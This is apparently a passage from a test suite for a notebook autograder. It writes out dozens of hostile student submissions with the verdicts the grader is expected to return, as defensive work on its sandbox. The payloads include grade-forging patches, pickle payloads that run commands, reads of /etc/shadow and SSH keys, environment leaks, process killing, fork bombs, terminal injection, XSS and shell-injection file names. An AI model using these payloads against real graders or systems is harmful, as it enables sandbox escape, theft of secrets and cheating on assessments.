       "_graded = json.dumps({'op': 'graded', 'bytes': len(_report)}).encode() + b'\\n' + _report\n"
       "for _name in os.listdir('/proc/self/fd'):\n    _fd = int(_name)\n    try:\n"
       "        _pipe = os.readlink(f'/proc/self/fd/{_fd}').startswith('pipe:')\n"
       "        _write_only = fcntl.fcntl(_fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY\n"
       "        if _fd > 2 and _pipe and _write_only:\n            os.write(_fd, _cell * 40 + _graded * 10)\n"
       "    except OSError:\n        pass\n")), FORGED, max_total=3)
attack("thread_tampers_with_the_worker", edits(replace_function("softmax", WRONG_SOFTMAX), add_cell(
       "import sys, threading, time\n\ndef _tamper():  # empties every report and case list it can see, forever\n"
       "    while True:\n        for frame in list(sys._current_frames().values()):\n"
       "            while frame is not None:\n                names = frame.f_locals\n"
       "                if isinstance(names.get('report'), dict) and isinstance(names['report'].get('attempts'), list):\n"
       "                    names['report']['attempts'].clear()\n"
       "                if isinstance(names.get('request'), dict) and isinstance(names['request'].get('cases'), list):\n"
       "                    del names['request']['cases'][1:]\n                frame = frame.f_back\n"
       "        time.sleep(0.001)\n\nthreading.Thread(target=_tamper, daemon=True).start()\n")), FORGED, max_total=3)
attack("patched_comparisons", edits(replace_function("softmax", WRONG_SOFTMAX), add_cell(  # every "close?" says yes
       "import math\nimport numpy as np\nnp.allclose = np.array_equal = lambda *args, **kwargs: True\n"
       "np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)\n"
       "np.testing.assert_allclose = np.testing.assert_array_equal = lambda *args, **kwargs: None\n"
       "math.isclose = lambda *args, **kwargs: True\ntry:\n    from course_lib import checking\n"
       "    checking.close = lambda *args, **kwargs: True\nexcept ImportError:\n    pass\n")),
       Expected("ok", {"softmax": "failed"}))
attack("mutates_its_input_and_hides_it", edits(  # zeros in the input make the uniform answer "right"
       add_cell("try:\n    from course_lib import checking\n    checking._same_inputs = lambda before, after: True\n"
                "except ImportError:\n    pass\n"),
       replace_function("softmax", "def softmax(x, axis=-1):\n    x[...] = 0\n"
                                   "    return np.full(x.shape, 1 / x.shape[axis], dtype=x.dtype)\n")),
       Expected("ok", {"softmax": "failed|mutated"}))
attack("hides_in_an_ndarray_subclass", replace_function("softmax",  # zeros that claim to equal anything
       "import os\n\nclass Liar(np.ndarray):\n    def __eq__(self, other):\n"
       "        return np.ones(np.shape(other), dtype=bool)\n"
       "    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):\n        return np.zeros(())\n"
       "    def __array_function__(self, func, types, args, kwargs):\n        return True\n"
       "    def __reduce__(self):  # and that run a command wherever they are unpickled\n"
       "        return (os.system, ('touch /tmp/COURSE_ATTACK_MARKER_pickle',))\n\n"
       "def softmax(x, axis=-1):\n    return np.zeros(np.shape(x)).view(Liar)\n"), Expected("ok", {"softmax": "failed"}))
attack("object_dtype_with_a_payload", replace_function("attention_scores",  # objects that run a command if unpickled
       "import os\n\nclass Payload:\n    def __reduce__(self):\n"
       "        return (os.system, ('touch /tmp/COURSE_ATTACK_MARKER_pickle',))\n\n"
       "def attention_scores(queries, keys):\n"
       "    return np.full((queries.shape[-2], keys.shape[-2]), Payload(), dtype=object)\n"),
       Expected("ok", {"attention_scores": "failed|error"}))
attack("object_that_never_describes_itself", replace_function("softmax",  # every attribute is itself, endless
       "class Endless:\n    def __getattr__(self, name):\n        return self\n    def __iter__(self):\n"
       "        while True:\n            yield self\n    def __len__(self):\n        return 2 ** 62\n"
       "    def __repr__(self):\n        return 'x' * 10 ** 8\n\n"
       "def softmax(x, axis=-1):\n    return Endless()\n"), FORGED, max_total=3)
attack("hides_a_quadratic_form", On(BASE09, edits(  # the (T, S) matrix, with every in-process watch switched off
       add_cell("import sys, threading, tracemalloc, resource\n"
                "sys.setprofile = sys.settrace = lambda *args, **kwargs: None\n"
                "threading.setprofile = threading.settrace = lambda *args, **kwargs: None\n"
                "tracemalloc.start = lambda *args, **kwargs: None\ntracemalloc.get_traced_memory = lambda: (0, 0)\n"
                "from torch.utils import _python_dispatch\n"
                "_python_dispatch.TorchDispatchMode.__enter__ = lambda self: self\n"
                "_python_dispatch.TorchDispatchMode.__exit__ = lambda self, *exc: None\n"
                "resource.getrusage = lambda who: resource.struct_rusage((0,) * 16)\n"),
       replace_function("linear_attention", "def linear_attention(query, key, value):\n"
                        "    weights = elu_feature_map(query) @ elu_feature_map(key).transpose(-2, -1)  # (..., T, S)\n"
                        "    return weights @ value / weights.sum(dim=-1, keepdim=True)\n"))),
       Expected("ok", {"linear_attention": "failed"}))
attack("resets_the_peak_counter", On(BASE09, replace_function("linear_attention",  # clear_refs 5: peak RSS := now
       "def linear_attention(query, key, value):\n"
       "    weights = elu_feature_map(query) @ elu_feature_map(key).transpose(-2, -1)  # (..., T, S)\n"
       "    output = weights @ value / weights.sum(dim=-1, keepdim=True)\n    del weights\n"
       "    for _path in ('/proc/self/clear_refs', '/proc/thread-self/clear_refs'):\n        try:\n"
       "            with open(_path, 'w') as _file:\n                _file.write('5')\n"
       "        except OSError:\n            pass\n    return output\n")),
       Expected("ok", {"linear_attention": "failed"}, says="peaked at"))
attack("disarms_the_alarm", replace_function("softmax",  # no alarm, no signals, and time stands still
       "import signal, time\n\ndef softmax(x, axis=-1):\n    signal.setitimer(signal.ITIMER_REAL, 0)\n"
       "    for signum in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM):\n"
       "        signal.signal(signum, signal.SIG_IGN)\n"
       "    time.monotonic = time.perf_counter = time.time = lambda: 0.0\n    while True:\n        pass\n"),
       Expected("timeout", {"softmax": "timeout"}))
attack("blocks_signals", replace_function("attention_scores",
       "import signal\n\ndef attention_scores(queries, keys):\n"
       "    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())\n    while True:\n        pass\n"),
       Expected("timeout", {"attention_scores": "timeout"}))
attack("raises_its_own_limits", add_cell(  # soft limits up to the hard ones, then 8 GiB at most, touched
       "import resource\nimport numpy as np\nfor _name in dir(resource):\n    if _name.startswith('RLIMIT_'):\n"
       "        try:\n            _soft, _hard = resource.getrlimit(getattr(resource, _name))\n"
       "            resource.setrlimit(getattr(resource, _name), (_hard, _hard))\n"
       "        except (ValueError, OSError):\n            pass\nhoard = [np.ones(2 ** 27) for _ in range(8)]\n"),
       Expected("memory-limit"))
attack("html_in_error_message", replace_function("softmax",  # for the feedback page and the CSV
       f"def softmax(x, axis=-1):\n    raise ValueError(\"{MARKER} {RAW_HTML} <img src=x onerror=alert(1)> "
       "=cmd|' /C calc'!A0\")\n"), Expected("ok", {"softmax": "error"}, says=MARKER))


def _inflate_points(notebook) -> None:
    """Claim 1000 points per check, and add a graded function of its own worth 100."""
    for cell in notebook.cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 1000
    bonus = nbformat.v4.new_code_cell("def bonus():\n    return 42\n")
    bonus.metadata["nbgrader"] = {"grade": False, "grade_id": "bonus", "locked": False, "schema_version": 3,
                                  "solution": True, "task": False}
    check = nbformat.v4.new_code_cell("assert bonus() == 42\n")
    check.metadata["nbgrader"] = {"grade": True, "grade_id": "check_bonus", "locked": True, "points": 100,
                                  "schema_version": 3, "solution": False, "task": False}
    notebook.cells += [bonus, check]


def _foreign_kernel(notebook) -> None:
    notebook.metadata["kernelspec"] = {"name": MARKER, "display_name": "evil", "language": "bash"}
    notebook.metadata["language_info"] = {"name": "bash"}


attack("inflated_points", _inflate_points, Expected("ok"), max_total=4)  # the grader's points, not the notebook's
attack("foreign_kernelspec", _foreign_kernel, Expected("ok"))  # the grader's kernel, not the notebook's

# --- 7. Reaching outside: nothing may (the real checks run after the batch) ------------------------------
OK = Expected("ok")
MAY_DIE = Expected("ok|crashed")  # a submission that kills its own sandbox may lose its kernel, nothing more
attack("kills_the_parent", add_cell(
       "import os, signal\nfor _signum in (signal.SIGTERM, signal.SIGKILL):\n    try:\n"
       "        os.kill(os.getppid(), _signum)\n    except OSError:\n        pass\n"), MAY_DIE)
attack("stops_the_parent", add_cell(  # SIGSTOP; outside a sandbox a marked child would resume it after 20 s
       "import os, signal, subprocess\n_parent = os.getppid()\n"
       "subprocess.Popen(['sh', '-c', f'sleep 20; kill -CONT {_parent} # COURSE_ATTACK_MARKER stops_the_parent'],\n"
       "                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,\n"
       "                 stderr=subprocess.DEVNULL)\nfor _pid in (_parent, 1):\n    try:\n"
       "        os.kill(_pid, signal.SIGSTOP)\n    except OSError:\n        pass\n"), MAY_DIE)
attack("kills_the_process_group", add_cell(  # its parent's group, then its own
       "import os, signal\nfor _group in (os.getpgid(os.getppid()), os.getpgid(0)):\n    try:\n"
       "        os.killpg(_group, signal.SIGKILL)\n    except OSError:\n        pass\n"), MAY_DIE)
attack("kill_minus_one_from_a_shell", add_cell(IN_BWRAP +
       "import subprocess\nif in_bubblewrap():\n    subprocess.run(['sh', '-c', 'kill -9 -1 # COURSE_ATTACK_MARKER'])\n"),
       MAY_DIE)
attack("kill_minus_one_from_python", add_cell(IN_BWRAP +  # and then every pid it can see
       "import os, signal\nif in_bubblewrap():\n    try:\n        os.kill(-1, signal.SIGKILL)\n"
       "    except OSError:\n        pass\n    for _pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
       "        if _pid != os.getpid():\n            try:\n                os.kill(_pid, signal.SIGKILL)\n"
       "            except OSError:\n                pass\n"), MAY_DIE)
attack("writes_everywhere_now", add_cell(PLANT + "print(plant('direct'))\n"), OK)
attack("setsid_child_writes_later", add_cell(CHILD_CELL +  # a new session, all output to /dev/null
       "subprocess.Popen(['setsid', *child_argv('setsid')], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,\n"
       "                 stderr=subprocess.DEVNULL, env={'COURSE_ATTACK_MARKER': 'setsid'})\n"), OK)
attack("new_session_child_keeps_the_output_open", add_cell(CHILD_CELL +  # holds the worker's stdout and stderr
       "subprocess.Popen(child_argv('popen_session'), start_new_session=True, env={'COURSE_ATTACK_MARKER': '1'})\n"), OK)
attack("nohup_child_writes_later", add_cell(CHILD_CELL +
       "import shlex\nos.system('nohup ' + shlex.join(child_argv('nohup')) + ' >/dev/null 2>&1 </dev/null &')\n"), OK)
attack("double_fork_writes_later", add_cell(CHILD_CELL +  # an orphan, adopted by whoever is init
       "_pid = os.fork()\nif _pid == 0:\n    try:\n        os.setsid()\n        if os.fork() == 0:\n"
       "            _argv = child_argv('double_fork')\n"
       "            os.execve(_argv[0], _argv, {'COURSE_ATTACK_MARKER': 'double_fork'})\n    finally:\n"
       "        os._exit(0)\nos.waitpid(_pid, 0)\n"), OK)
attack("bash_cell_background_job", add_cell(  # a %%bash cell that leaves a job behind
       "%%bash\nsetsid sh -c 'sleep @DELAY@; for d in \"$@\"; do echo escaped > \"$d/COURSE_ATTACK_MARKER_bash_job\"; done; "
       "sleep @LINGER@ # COURSE_ATTACK_MARKER' sh @DIRS_SH@ >/dev/null 2>&1 </dev/null &\n"), OK)
attack("lingering_thread", add_cell(PLANT +  # not a daemon; and at exit, two more minutes
       "import atexit, ctypes, threading, time\n\ndef _linger():\n    try:  # the thread's name (comm) carries the marker\n"
       "        ctypes.CDLL(None).prctl(15, b'COURSE_ATTACK_MARKER', 0, 0, 0)\n    except Exception:\n        pass\n"
       "    deadline = time.time() + @LINGER@\n    while time.time() < deadline:\n        plant('thread')\n"
       "        time.sleep(0.5)\n\nthreading.Thread(target=_linger, daemon=False).start()\n"
       "atexit.register(time.sleep, @LINGER@)\n"), OK)
attack("writes_course_lib", add_cell(  # the copy it is shown, and the checkout's, by path
       "import os, course_lib\n_visible = os.path.dirname(course_lib.__file__)\n"
       "for _folder in (_visible, os.path.join(_visible, '__pycache__'), @ROOT@ + '/course_lib',\n"
       "                @ROOT@ + '/course_lib/__pycache__'):\n"
       "    for _name in ('COURSE_ATTACK_MARKER.py', 'COURSE_ATTACK_MARKER.cpython-311.pyc'):\n        try:\n"
       "            with open(os.path.join(_folder, _name), 'w') as _file:\n"
       "                _file.write('# COURSE_ATTACK_MARKER\\n')\n        except OSError:\n            pass\n"
       "    try:  # a harmless comment at the end of a real module\n"
       "        with open(os.path.join(_folder, 'numpy_attention.py'), 'a') as _file:\n"
       "            _file.write('\\n# COURSE_ATTACK_MARKER\\n')\n    except OSError:\n        pass\n"), OK)
attack("writes_the_environment", edits(add_cell(  # a .pth file (runs at every start) and a line in numpy
       "import os, site, sys, sysconfig\nimport numpy\nESCAPED = []  # where it worked: the environment is read-only\n"
       "_pth = \"import os; os.makedirs('/tmp/COURSE_ATTACK_MARKER_pth_ran', exist_ok=True)\\n\"\n"
       "for _folder in {*site.getsitepackages(), sysconfig.get_paths()['purelib'], @SITE@,\n"
       "                os.path.dirname(os.__file__), os.path.dirname(os.path.realpath(sys.executable))}:\n"
       "    try:\n        with open(os.path.join(_folder, 'COURSE_ATTACK_MARKER.pth'), 'w') as _file:\n"
       "            _file.write(_pth)\n        ESCAPED.append(_folder)\n    except OSError:\n        pass\n"
       "try:\n    with open(numpy.__file__, 'a') as _file:\n        _file.write('\\n# COURSE_ATTACK_MARKER\\n')\n"
       "    ESCAPED.append(numpy.__file__)\nexcept OSError:\n    pass\n"), guarded("softmax", "ESCAPED")), OK)
attack("pip_install", edits(  # a local wheel (no network needed): into the environment, and to a target folder
       add_cell(f"import base64\nwith open('{WHEEL}', 'wb') as _file:\n    _file.write(base64.b64decode(@WHEEL@))\n"),
       add_cell(f"%pip install --no-index --no-deps ./{WHEEL}\n", position=3),
       add_cell(f"import sys\n!{{sys.executable}} -m pip install --no-index --no-deps --target @ROOT_SH@/{MARKER}_pip_target ./{WHEEL}\n",
                position=4)),
       Expected("ok|timeout"))
attack("overwrites_other_notebooks", add_cell(  # siblings get full marks; the checkout's get a marker key
       "import base64, glob, itertools, json, os\nSOLVED = base64.b64decode(@SOLVED@)\n\n"
       "def mark(path):  # a key in the metadata: still a valid notebook, should this ever work\n"
       "    try:\n        with open(path) as file:\n            notebook = json.load(file)\n"
       "        notebook.setdefault('metadata', {})['COURSE_ATTACK_MARKER'] = True\n"
       "        with open(path, 'w') as file:\n            json.dump(notebook, file)\n"
       "    except (OSError, ValueError, AttributeError):\n        pass\n\n"
       "for _path in glob.glob(@SUBMISSIONS@ + '/*.ipynb'):  # the other submissions, by absolute path\n"
       "    try:\n        with open(_path, 'wb') as _file:\n            _file.write(SOLVED)\n    except OSError:\n"
       "        pass\nfor _pattern in ('../*.ipynb', '../../*.ipynb', '../solutions/*.ipynb', '../../solutions/*.ipynb',\n"
       "                 @ROOT@ + '/solutions/*.ipynb', @ROOT@ + '/exercises/*.ipynb', @OUT@ + '/../*.ipynb'):\n"
       "    for _path in glob.glob(_pattern):\n        mark(_path)\n"
       "for _path in itertools.islice(glob.iglob('/tmp/**/*.ipynb', recursive=True), 500):\n    mark(_path)\n"
       "for _folder in (@SUBMISSIONS@, @ROOT@ + '/solutions', '..', '../..'):  # a new notebook, for a re-collect\n"
       "    try:\n        with open(os.path.join(_folder, 'COURSE_ATTACK_MARKER_planted.ipynb'), 'wb') as _file:\n"
       "            _file.write(SOLVED)\n    except OSError:\n        pass\n"), OK)
attack("reads_the_solutions_by_path", edits(replace_function("softmax", WRONG_SOFTMAX), add_cell(
       "import json, os, subprocess\n_name = 'solutions/01_attention_by_hand.ipynb'\n"
       "_candidates = [@ROOT@ + '/' + _name, '../' + _name, '../../' + _name, '/proc/1/root' + @ROOT@ + '/' + _name,\n"
       "               f'/proc/{os.getppid()}/cwd/' + _name, f'/proc/{os.getppid()}/cwd/../' + _name,\n"
       "               os.path.expanduser('~/' + _name)]\n_texts = []\nfor _path in _candidates:\n    try:\n"
       "        with open(_path) as _file:\n            _texts.append(_file.read())\n    except OSError:\n        pass\n"
       "try:  # and from the repository's history\n"
       "    _texts.append(subprocess.run(['git', '-c', 'attack.marker=COURSE_ATTACK_MARKER', '-C', @ROOT@, 'show',\n"
       "                                  'HEAD:' + _name], capture_output=True,\n"
       "                                 text=True, timeout=5).stdout)\nexcept (OSError, subprocess.SubprocessError):\n"
       "    pass\nfor _text in _texts:\n    try:\n        _cells = json.loads(_text)['cells']\n"
       "    except (ValueError, KeyError):\n        continue\n    for _cell in _cells:\n"
       "        if _cell.get('metadata', {}).get('nbgrader', {}).get('solution'):\n"
       "            exec(''.join(_cell['source']))  # the teacher's functions replace ours\n    break\n",
       position=5)), Expected("ok", {"softmax": "failed"}))
attack("searches_for_the_solutions", edits(replace_function("softmax", WRONG_SOFTMAX), add_cell(
       "import glob, json\n_found = [p for pattern in ('/*/solutions/*.ipynb', '/*/*/solutions/*.ipynb',\n"
       "                                      '/*/*/*/solutions/*.ipynb', '/home/*/*/solutions/*.ipynb')\n"
       "          for p in glob.glob(pattern) if 'attention_by_hand' in p]\nfor _path in _found:\n    try:\n"
       "        with open(_path) as _file:\n            _cells = json.load(_file)['cells']\n"
       "    except (OSError, ValueError, KeyError):\n        continue\n    for _cell in _cells:\n"
       "        if _cell.get('metadata', {}).get('nbgrader', {}).get('solution'):\n"
       "            exec(''.join(_cell['source']))\n    break\n", position=5)), Expected("ok", {"softmax": "failed"}))
LEAK = "COURSE_ATTACK_MARKER leak"
attack("leaks_the_environment", replace_function("softmax",
       "import os\n\ndef softmax(x, axis=-1):\n    raise RuntimeError(f'COURSE_ATTACK_MARKER leak: {dict(os.environ)}')\n"),
       Expected("ok", {"softmax": "error"}, says=LEAK))
attack("leaks_other_processes_environment", replace_function("attention_scores",
       "import os\n\ndef attention_scores(queries, keys):\n    seen = {}\n"
       "    for pid in [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:\n"
       "        for what in ('environ', 'cmdline'):\n            try:\n"
       "                with open(f'/proc/{pid}/{what}', 'rb') as file:\n"
       "                    seen[f'{pid}/{what}'] = file.read(400).replace(b'\\0', b' ').decode(errors='replace')\n"
       "            except OSError:\n                pass\n"
       "    raise RuntimeError(f'COURSE_ATTACK_MARKER leak: {seen}')\n"),
       Expected("ok", {"attention_scores": "error"}, says=LEAK))
attack("leaks_the_teachers_files", replace_function("scaled_dot_product_attention",
       "import os\n\ndef scaled_dot_product_attention(queries, keys, values):\n    seen = {}\n"
       "    for folder in ('/root', @ROOT@, @ROOT@ + '/solutions', @SUBMISSIONS@, @OUT@, '/home', os.path.expanduser('~')):\n"
       "        try:\n            seen[folder] = sorted(os.listdir(folder))\n        except OSError as error:\n"
       "            seen[folder] = type(error).__name__\n"
       "    for path in ('/root/.bashrc', '/root/.gitconfig', '/root/.ssh/id_rsa', '/etc/shadow'):\n        try:\n"
       "            with open(path) as file:\n                seen[path] = file.read(200)\n        except OSError:\n"
       "            pass\n    raise RuntimeError(f'COURSE_ATTACK_MARKER leak: {seen}')\n"),
       Expected("ok", {"scaled_dot_product_attention": "error"}, says=LEAK))
attack("fork_bomb", at_end(  # 500 sleeping processes (bounded), each named with the marker
       "import shutil, subprocess\n_sleep = shutil.which('sleep') or '/bin/sleep'\n_started = 0\nfor _ in range(500):\n"
       "    try:\n        subprocess.Popen(['COURSE_ATTACK_MARKER_fork_bomb', '@LINGER@'], executable=_sleep,\n"
       "                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,\n"
       "                         env={'COURSE_ATTACK_MARKER': 'fork_bomb'})\n        _started += 1\n"
       "    except OSError:\n        break\nprint(_started, 'processes started')\n"), OK)
attack("fork_bomb_by_fork", at_end(
       "import os, shutil\n_sleep = shutil.which('sleep') or '/bin/sleep'\nfor _ in range(500):\n    try:\n"
       "        _pid = os.fork()\n    except OSError:\n        break\n    if _pid == 0:\n        try:\n"
       "            os.execve(_sleep, ['COURSE_ATTACK_MARKER_forked', '@LINGER@'], {'COURSE_ATTACK_MARKER': 'forked'})\n"
       "        finally:\n            os._exit(0)\n"), OK)
attack("fills_the_disk", add_cell(  # one 2 GiB file, then 32 MiB files until the folder is full (1 GiB at most)
       "_chunk = bytes(64 << 20)\ntry:\n    with open('COURSE_ATTACK_MARKER_fill', 'wb') as _file:\n"
       "        for _ in range(32):\n            _file.write(_chunk)\nexcept OSError as _error:\n    print(_error)\n"
       "for _i in range(32):\n    try:\n        with open(f'COURSE_ATTACK_MARKER_fill_{_i}', 'wb') as _file:\n"
       "            _file.write(_chunk[:32 << 20])\n    except OSError as _error:\n        print(_error)\n        break\n"
       "del _chunk\n"), OK)
attack("fills_the_disk_with_dd", add_cell(
       "!dd if=/dev/zero of=/tmp/COURSE_ATTACK_MARKER_dd bs=1M count=2048 status=none\n"), OK)
attack("reaches_the_network", edits(add_cell(  # the internet, DNS, every port listening here, known sockets
       "import socket\nREACHED = []\n\ndef _try(family, kind, address):\n    try:\n"
       "        with socket.socket(family, kind) as s:\n            s.settimeout(0.5)\n            s.connect(address)\n"
       "            if kind == socket.SOCK_DGRAM:\n                s.send(b'x')\n            REACHED.append(address)\n"
       "    except OSError:\n        pass\n\n"
       "for _address in (('1.1.1.1', 443), ('8.8.8.8', 53), ('pypi.org', 443), ('github.com', 443)):\n"
       "    _try(socket.AF_INET, socket.SOCK_STREAM, _address)\n_try(socket.AF_INET, socket.SOCK_DGRAM, ('8.8.8.8', 53))\n"
       "_ports = set()\nfor _table in ('/proc/net/tcp', '/proc/net/tcp6'):\n    try:\n"
       "        with open(_table) as _file:\n            for _line in _file.readlines()[1:]:\n"
       "                _fields = _line.split()\n                if _fields[3] == '0A':  # LISTEN\n"
       "                    _ports.add(int(_fields[1].rsplit(':', 1)[1], 16))\n    except OSError:\n        pass\n"
       "for _port in sorted(_ports)[:20]:\n    _try(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', _port))\n"
       "for _path in ('/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket'):\n"
       "    _try(socket.AF_UNIX, socket.SOCK_STREAM, _path)\nprint(REACHED)\n"), guarded("softmax", "REACHED")), OK)
attack("types_into_the_terminal", edits(add_cell(  # TIOCSTI: a command typed into the teacher's shell
       "import fcntl, os, termios\nREACHED = []\nfor _name in ('/dev/tty', '/proc/self/fd/0', '/proc/self/fd/1', '/proc/self/fd/2'):\n"
       "    try:\n        _fd = os.open(_name, os.O_RDWR | os.O_NOCTTY)\n    except OSError:\n        continue\n"
       "    try:\n        for _byte in b'touch /tmp/COURSE_ATTACK_MARKER_tiocsti\\n':\n"
       "            fcntl.ioctl(_fd, termios.TIOCSTI, bytes([_byte]))\n        REACHED.append(_name)\n"
       "    except OSError:\n        pass\n    finally:\n        os.close(_fd)\n"), guarded("softmax", "REACHED")), OK)

# --- 8. Careless learners -------------------------------------------------------------------------------
attack("exit_in_a_cell", add_cell("exit()\n", position=5), Expected("ok", says="exit()"))
attack("quit_in_a_cell", add_cell("quit()\n", position=8), Expected("ok", says="quit()"))
attack("star_import_after_softmax", add_cell("from course_lib.numpy_attention import *\n", position=5),
       Expected("ok", {"softmax": UNAVAILABLE}, says="from course_lib.numpy_attention import *"))
attack("named_import_after_softmax", add_cell("from course_lib.numpy_attention import softmax\n", position=5),
       Expected("ok", {"softmax": UNAVAILABLE}, says="from course_lib.numpy_attention import softmax"))
attack("asks_for_input", replace_function("attention_scores",
       "def attention_scores(queries, keys):\n    scale = float(input('scale? '))\n"
       "    return queries @ np.swapaxes(keys, -1, -2) / scale\n"),
       Expected("ok", {"attention_scores": "error"}, says="asked for input"))
attack("asks_for_input_in_a_cell", add_cell("name = input('Your name: ')\n"), Expected("ok", says="asked for input"))
attack("asks_for_a_password", replace_function("softmax",  # getpass tries /dev/tty before stdin
       "import getpass\n\ndef softmax(x, axis=-1):\n    getpass.getpass('token: ')\n"
       "    e = np.exp(x - np.max(x, axis=axis, keepdims=True))\n    return e / e.sum(axis=axis, keepdims=True)\n"),
       Expected("ok", {"softmax": "error"}, says="asked for input"))
attack("metadata_stripped", strip_metadata, Expected("ok", says="recognised by its functions"))
attack("metadata_stripped_and_cells_merged", merge_code_cells, Expected("ok", says="recognised by its functions"))


# --- 9. A red-team session's notebooks (tests/red_team/), run against the grader as it stood: each found a
# hole or a false rejection that is now closed. Kept as whole notebooks, as they were submitted. ------------
RED_TEAM = ROOT / "tests" / "red_team"
HIDDEN_ALIAS = Expected("ok", {"SelfAttention": "library-call"}, says="scaled_dot_product_attention")
for _name, _expected in {
    # torch's attention bound by a statement the source reader did not follow, or reached by another name
    "03_for_target": HIDDEN_ALIAS, "03_walrus": HIDDEN_ALIAS, "03_global_in_function": HIDDEN_ALIAS,
    "03_with_as": HIDDEN_ALIAS, "03_match_capture": HIDDEN_ALIAS, "03_dict_update": HIDDEN_ALIAS,
    "03_reduce_getattr": HIDDEN_ALIAS,
    "03_encoder_layer_self_attn": Expected("ok", {"SelfAttention": "library-call"}, says="TransformerEncoderLayer"),
    "03_writefile_module": Expected("ok", {"SelfAttention": "unverifiable"}, says="not installed"),
    "08_flash_is_torch_sdpa": Expected("ok", {"flash_attention": "library-call"}),
    "08_dense_flash_except_on_long_inputs": Expected("ok", {"flash_attention": "not-available|failed"}),
    # the memory case: its answer is judged too, and work in another process is not measured, so not allowed
    "09_quadratic_except_on_long_inputs": Expected("ok", {"linear_attention": "failed"}, says="T = S = 4096"),
    "09_quadratic_in_fork": Expected("ok", {"linear_attention": "unverifiable"}, says="fork"),
    "09_quadratic_in_subprocess": Expected("ok", {"linear_attention": "unverifiable"}, says="subprocess"),
    # the lent solutions, looked for from the graded function
    "09_leak_lent_via_frames": Expected("ok", {"positive_random_features": "unverifiable"}, says="_getframe"),
    "09_leak_lent_via_getattr_const": Expected("ok", {"positive_random_features": "unverifiable"}, says="__code__"),
    "01_leak_mountinfo": Expected("ok", {"softmax": "error"}),
    # the batch must survive these: a lone surrogate in an error, an Infinity in a forged reply header
    "01_b_surrogate": Expected("ok", {"softmax": "error"}, says="bad"),
    "01_b_overflow": Expected("crashed", says="grader's own channel"),
    # honest code that was rejected: self.modules(), an own method named like torch's, a quick test above a
    # def in the same cell, a benchmark cell that imports (the memory run takes only the function's own code),
    # torch's attention on each block of a sliding window (the band and the blocks are the exercise)
    "03_honest_modules_init": OK, "03_honest_own_attention_method": OK, "09_honest_quick_test_in_cell": OK,
    "07_honest_benchmark_cell": OK, "07_sliding_is_torch_sdpa_by_block": OK,
}.items():
    attack(_name, RED_TEAM / f"{_name}.ipynb", _expected)


# ----------------------------------------------------------------------------------------------------------
# Writing them
# ----------------------------------------------------------------------------------------------------------

def base_of(name: str) -> Path:
    content = ATTACKS.get(name, (None,))[0]
    if isinstance(content, Path):  # a red-team notebook: the exercise its number names
        return next(path for path in FUNCTIONS if path.name[:2] == content.name[:2])
    return content.notebook if isinstance(content, On) else BASE01


def functions_of(name: str) -> dict[str, float]:
    """The graded functions (with points) of the exercise an attack (or a special file) is made from."""
    return FUNCTIONS[base_of(name)]


def site_packages() -> Path:
    return Path(sysconfig.get_paths()["purelib"])


def target_dirs(folder: Path, out: Path | None = None) -> list[str]:
    """The folders outside the sandbox that the writing attacks try (and escaped_files looks in)."""
    folder = Path(folder).resolve()
    out = (folder / "out") if out is None else Path(out).resolve()
    dirs = ["/tmp", "/var/tmp", "/dev/shm", ROOT, ROOT / "course_lib", ROOT / "course_lib" / "__pycache__",
            ROOT / "solutions", ROOT / "exercises", ROOT / "tests", ROOT / ".venv" / "bin", site_packages(),
            folder, folder.parent, out, out / "grades_feedback", Path.home(), "/root",
            *sorted(str(p) for p in Path("/home").glob("*") if p.is_dir())]
    return list(dict.fromkeys(str(d) for d in dirs))


def placeholders(folder: Path, out: Path | None = None) -> dict[str, str]:
    folder = Path(folder).resolve()
    out = (folder / "out") if out is None else Path(out).resolve()
    dirs = target_dirs(folder, out)
    return {"@DIRS@": repr(dirs), "@DIRS_SH@": shlex.join(dirs), "@ROOT@": repr(str(ROOT)),
            "@ROOT_SH@": shlex.quote(str(ROOT)), "@SUBMISSIONS@": repr(str(folder)), "@OUT@": repr(str(out)),
            "@SITE@": repr(str(site_packages())), "@DELAY@": str(DELAY), "@LINGER@": str(LINGER),
            "@SOLVED@": repr(base64.b64encode(BASE01.read_bytes()).decode()),
            "@WHEEL@": repr(base64.b64encode(wheel_bytes()).decode())}


def fill(notebook, values: dict[str, str]) -> None:
    for cell in notebook.cells:
        if cell.cell_type == "code":
            for key, value in values.items():
                cell.source = cell.source.replace(key, value)
            left = re.findall(r"@[A-Z_]+@", cell.source)
            assert not left, f"no value for {left}"


def write_attack(folder: Path, name: str, content, values: dict[str, str]) -> Path:
    if isinstance(content, (bytes, Path)):
        return write(folder, name, content)
    if isinstance(content, On):
        notebook = nbformat.read(str(content.notebook), as_version=4)
        content.edit(notebook)
        fill(notebook, values)
        path = folder / f"{name}.ipynb"
        nbformat.write(notebook, str(path))
        return path
    return write(folder, name, lambda notebook: (content(notebook), fill(notebook, values)))


def make_attacks(folder: Path, out: Path | None = None) -> dict[Path, Expected]:
    """Write every attack into ``folder``; ``out`` is where the grades will go (default folder/out), which the
    attacks also try to write into. Returns each notebook with its expected verdict."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    values = placeholders(folder, out)
    return {write_attack(folder, name, content, values): expected for name, (content, expected) in ATTACKS.items()}


# ----------------------------------------------------------------------------------------------------------
# Files that are not plain notebooks, or too big, or one file twice, or with hostile names
# ----------------------------------------------------------------------------------------------------------

ODD_NAMES = ('=1+2', '-rf', '--help', f'$(touch {MARKER}_shell)', f'`touch {MARKER}_tick`', 'new\nline',
             '<img src=x onerror=alert(1)>', "quote'\"s", 'ünïcödé 空白', 'a' * 240,
             'not_utf8_\udcff')  # each a full-marks copy (the last, byte 0xff, is no UTF-8 at all)


def _notebook_bytes(notebook) -> bytes:
